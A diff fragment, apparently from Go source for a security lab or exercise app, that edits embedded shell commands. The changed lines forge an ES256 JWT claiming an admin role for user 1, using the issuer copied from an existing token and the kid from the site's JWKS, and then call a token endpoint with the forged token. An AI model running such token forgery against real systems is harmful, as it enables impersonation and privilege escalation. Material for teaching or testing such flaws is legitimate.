@@ -17,7 +17,8 @@ curl -s -b "$JAR" -c "$JAR" -H "Seat: $SEAT" -X POST -H 'Content-Type: applicati
 
 	shellSign = `openssl ecparam -name prime256v1 -genkey -noout | openssl pkcs8 -topk8 -nocrypt > "$JAR.pem"
 KID=$(curl -s "$SITE/r/$ROOM/.well-known/jwks.json" | tr '{' '\n' | grep ES256 | sed -n 's/.*"kid": *"\([^"]*\)".*/\1/p' | head -1)
-FORGED=$(twodoors token sign --key "$JAR.pem" --alg ES256 --kid "$KID" --typ at+jwt --claim iss=urn:twodoors --claim 'aud:=["urn:twodoors:app"]' --claim client_id=two-doors-web --claim sub=1 --claim name=ada --claim role=admin --claim jti=own --expires 5m)
+ISS=$(echo "$TOKEN" | cut -d. -f2 | tr '_-' '/+' | base64 -d 2>/dev/null | sed -n 's/.*"iss":"\([^"]*\)".*/\1/p')
+FORGED=$(twodoors token sign --key "$JAR.pem" --alg ES256 --kid "$KID" --typ at+jwt --claim iss="$ISS" --claim "aud:=[\"$ISS:app\"]" --claim client_id=two-doors-web --claim sub=1 --claim name=ada --claim role=admin --claim jti=own --expires 5m)
 curl -s -b "$JAR" -c "$JAR" -H "Seat: $SEAT" -H "Authorization: Bearer $FORGED" "$SITE/api/token/me"`
 
 	shellRotate = `curl -s -H "Seat: $SEAT" "$SITE/r/$ROOM/.well-known/jwks.json" > "$JAR.jwks"
